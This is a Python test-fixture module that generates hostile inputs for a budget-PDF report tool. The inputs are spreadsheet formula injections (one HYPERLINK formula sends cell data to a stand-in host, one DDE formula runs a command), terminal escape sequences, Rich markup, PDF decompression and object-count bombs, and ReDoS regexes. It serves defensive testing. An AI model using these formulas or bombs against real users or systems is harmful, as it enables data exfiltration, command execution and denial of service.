"""Generators of hostile inputs (issue 13): every file a test needs is built here, in
code — no binary blob is committed. Shared by the tests of this folder and by the
fuzz harness (tests/test_fuzz.py)."""

from __future__ import annotations

import zlib
from collections.abc import Iterable

TABLE = [
    ["项目", "合计", "基本支出", "项目支出"],
    ["合计", "300.00", "200.00", "100.00"],
    ["一般公共服务支出", "200.00", "150.00", "50.00"],
    ["教育支出", "100.00", "50.00", "50.00"],
]
PROSE = "2021年某某局部门预算。2021年支出预算300.00万元，比上年增加30.00万元，增长11.1%。"

# Text a PDF's text layer or a text export could carry to attack whoever reads the
# report: formulas for spreadsheets, escapes for terminals, markup for Rich.
FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"点此")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
CONTROLS = ["\x1b[2J", "\x1b]0;pwned\x07", "\x1b[31m", "\x07", "\x9b31m", "\x08\x08", "\x0b", "\u202e"]  # NUL makes a text file binary
MARKUP = ["[/]", "[bold]", "[/red]", "[link=http://x]"]


def text_doc(title: str = "2021年部门支出总体情况表", prose: str = PROSE, rows: Iterable[list[str]] | None = None, head: str = "2021年某某局部门预算") -> str:
    """A small text export: a heading, a paragraph, one table (tab-separated)."""
    table = "\n".join("\t".join(r) for r in (rows if rows is not None else TABLE))
    return f"{head}\n\n{prose}\n\n{title}\n单位：万元\n{table}\n"


def failing_rows(label: str) -> list[list[str]]:
    """TABLE with one row labelled ``label`` whose parts do not add up (a finding
    that names the row)."""
    rows = [list(r) for r in TABLE]
    rows[2] = [label, "200.00", "150.00", "40.00"]
    return rows


# ----------------------------------------------------------------------------- PDF


def pdf(pages: list[bytes], media: tuple[float, float] = (595, 842), extra: list[bytes] | None = None) -> bytes:
    """A minimal PDF: one content stream per page (given raw, filters included in
    its dictionary by ``stream``), Helvetica as F1. ``extra`` objects are appended."""
    objs: list[bytes] = []
    n_pages = len(pages)
    kids = " ".join(f"{3 + 2 * k} 0 R" for k in range(n_pages))
    objs.append(b"<< /Type /Catalog /Pages 2 0 R >>")
    objs.append(f"<< /Type /Pages /Kids [{kids}] /Count {n_pages} >>".encode())
    font = 3 + 2 * n_pages
    for k, content in enumerate(pages):
        objs.append(
            f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 {media[0]:g} {media[1]:g}] "
            f"/Resources << /Font << /F1 {font} 0 R >> >> /Contents {4 + 2 * k} 0 R >>".encode()
        )
        objs.append(content)
    objs.append(b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")
    objs.extend(extra or [])
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for i, body in enumerate(objs, 1):
        offsets.append(len(out))
        out += f"{i} 0 obj\n".encode() + body + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objs) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{o:010d} 00000 n \n".encode() for o in offsets)
    out += f"trailer\n<< /Size {len(objs) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
    return bytes(out)


def stream(data: bytes, filters: list[str] | None = None, length: int | None = None) -> bytes:
    f = ""
    if filters:
        f = " /Filter [" + " ".join("/" + x for x in filters) + "]"
    return f"<< /Length {len(data) if length is None else length}{f} >>\nstream\n".encode() + data + b"\nendstream"


def text_content(lines: list[str], size: int = 12, x: float = 72, top: float = 800) -> bytes:
    """A content stream drawing ASCII/Latin-1 lines (control bytes included)."""
    ops = [b"BT", f"/F1 {size} Tf".encode()]
    for k, line in enumerate(lines):
        raw = line.encode("latin-1", "replace").replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)")
        ops.append(f"1 0 0 1 {x:g} {top - k * (size + 6):g} Tm".encode())
        ops.append(b"(" + raw + b") Tj")
    ops.append(b"ET")
    return b"\n".join(ops)


def deflate_stream(total: int, layers: int) -> bytes:
    """``total`` bytes of spaces compressed ``layers`` times, built in 1 MiB chunks."""
    comp = zlib.compressobj(9)
    chunk = b" " * (1 << 20)
    parts = [comp.compress(chunk) for _ in range(total >> 20)]
    parts.append(comp.flush())
    data = b"".join(parts)
    for _ in range(layers - 1):
        data = zlib.compress(data, 9)
    return data


def flate_bomb_pdf(total: int = 160 << 20, layers: int = 2) -> bytes:
    """A page whose content stream inflates to ``total`` bytes (a decompression
    bomb: two layers make a few KB become hundreds of MB)."""
    data = deflate_stream(total, layers)
    return pdf([stream(data, ["FlateDecode"] * layers)])


def lzw_run(total: int, byte: int = 32, early: int = 1) -> bytes:
    """``total`` copies of ``byte`` LZW-encoded as PDF writes it (9–12-bit codes, clear
    256, end 257): each code adds one byte to the run it repeats, so a few hundred KB
    stand for hundreds of MB. Codes are written directly (an encoder would read
    every byte)."""
    codes: list[int] = []
    left = total
    while left > 0:
        codes += [256, byte]
        left -= 1
        n, run = 258, 1
        while left > 0 and n + early < 4095:
            if left > run:
                run += 1
                codes.append(n)  # the run so far plus one byte: the entry being defined
                left -= run
            else:  # the last few bytes: an entry defined earlier
                codes.append(256 + left if left > 1 else byte)
                left = 0
            n += 1
    return _pack_lzw([*codes, 257], early)


def lzw_encode(data: bytes, early: int = 1) -> bytes:
    """Any bytes LZW-encoded as PDF writes them (a plain encoder, for small streams)."""
    table = {bytes([i]): i for i in range(256)}
    codes, w, n = [256], b"", 258
    for c in data:
        wc = w + bytes([c])
        if wc in table:
            w = wc
            continue
        codes.append(table[w])
        table[wc], n, w = n, n + 1, bytes([c])
        if n + early >= 4095:
            codes += [table[w], 256]
            table, n, w = {bytes([i]): i for i in range(256)}, 258, b""
    if w:
        codes.append(table[w])
    return _pack_lzw([*codes, 257], early)


def _pack_lzw(codes: list[int], early: int) -> bytes:
    """Codes at the width a PDF decoder reads each at (9 bits after a clear, one more
    as the table passes 511, 1023, 2047 entries, less ``early``)."""
    out, acc, bits = bytearray(), 0, 0
    n, width, fresh = 258, 9, True
    for code in codes:
        acc = (acc << width) | code
        bits += width
        while bits >= 8:
            bits -= 8
            out.append((acc >> bits) & 0xFF)
        acc &= (1 << bits) - 1
        if code == 256:
            n, width, fresh = 258, 9, True
            continue
        if not fresh:
            n += 1  # the decoder defines an entry with every code after the first
        fresh = False
        width = min(12, (n + early).bit_length())
    if bits:
        out.append((acc << (8 - bits)) & 0xFF)
    return bytes(out)


def run_length(total: int, byte: int = 32) -> bytes:
    """``total`` copies of ``byte`` in RunLength (two bytes per 128)."""
    full, rest = divmod(total, 128)
    out = bytes([129, byte]) * full
    if rest:
        out += bytes([257 - rest, byte]) if rest > 1 else bytes([0, byte])
    return out + b"\x80"


def ascii_hex(data: bytes) -> bytes:
    return data.hex().encode() + b">"


def ascii85(data: bytes) -> bytes:
    import base64

    return base64.a85encode(data) + b"~>"


def many_objects_pdf(n: int) -> bytes:
    """``n`` tiny objects written out: an object-count bomb."""
    filler = [b"<< /A 1 >>"] * n
    return pdf([stream(text_content(["2021 budget"]))], extra=filler)


def huge_page_pdf(side: float = 14_400) -> bytes:
    """The largest page PDF allows, with text and a ruled 2x3 grid near the top."""
    top = side - 60
    grid = []
    for r in range(4):
        grid.append(f"72 {top - 40 - r * 20:g} m 372 {top - 40 - r * 20:g} l S")
    for c in range(4):
        grid.append(f"{72 + c * 100} {top - 40:g} m {72 + c * 100} {top - 100:g} l S")
    content = text_content(["2021 Budget", "Total 300.00"], top=top) + b"\n" + "\n".join(grid).encode()
    return pdf([stream(content)], media=(side, side))


def blank_pages_pdf(n: int) -> bytes:
    return pdf([stream(b"") for _ in range(n)])


# ----------------------------------------------------------------------------- rules

RULE_HEAD = "pack: hostile\nchecks:\n"
CHECK = "  - id: HX-001\n    name: hostile-sum\n    kind: sum\n    title: ok\n    table: expenditure_summary\n"


def rule_file(extra: str = "", check: str = CHECK) -> str:
    return RULE_HEAD + check + extra


REDOS = ["(a+)+$", "(a*)*b", "(a|aa)+$", "(x+x+)+y", ".*.*.*.*=", "(?:\\s*合计*)+$", "^(\\w+\\s?)*$"]


def objstm_bomb_pdf(n: int = 2_100_000) -> bytes:
    """An object stream declaring ``n`` packed objects (an object-count bomb in a
    few hundred bytes)."""
    body = b"1 0 "
    return pdf([stream(text_content(["2021 budget"]))], extra=[f"<< /Type /ObjStm /N {n} /First 4 /Length {len(body)} >>\nstream\n".encode() + body + b"\nendstream"])


def reportlab_budget_pdf(page: tuple[float, float] = (595, 842), wrong: bool = True, label: str = "一般公共服务支出") -> bytes:
    """A real-looking budget page drawn with reportlab (CJK font, ruled table); with
    ``wrong`` one row does not add up, so the report has a finding to draw."""
    import io

    from reportlab.pdfbase import pdfmetrics
    from reportlab.pdfbase.cidfonts import UnicodeCIDFont
    from reportlab.pdfgen.canvas import Canvas

    if "STSong-Light" not in pdfmetrics.getRegisteredFontNames():
        pdfmetrics.registerFont(UnicodeCIDFont("STSong-Light"))
    rows = failing_rows(label) if wrong else TABLE
    buf = io.BytesIO()
    c = Canvas(buf, pagesize=page, invariant=1)
    top = page[1] - 52
    c.setFont("STSong-Light", 12)
    c.drawString(72, top, PROSE)
    c.drawString(200, top - 40, "2021年部门支出总体情况表")
    c.drawString(430, top - 60, "单位：万元")
    x0, y0, w, h = 72, top - 70, 110, 22
    for r, row in enumerate(rows):
        for k, text in enumerate(row):
            c.rect(x0 + k * w, y0 - (r + 1) * h, w, h)
            c.drawString(x0 + k * w + 4, y0 - (r + 1) * h + 7, text)
    c.showPage()
    c.save()
    return buf.getvalue()
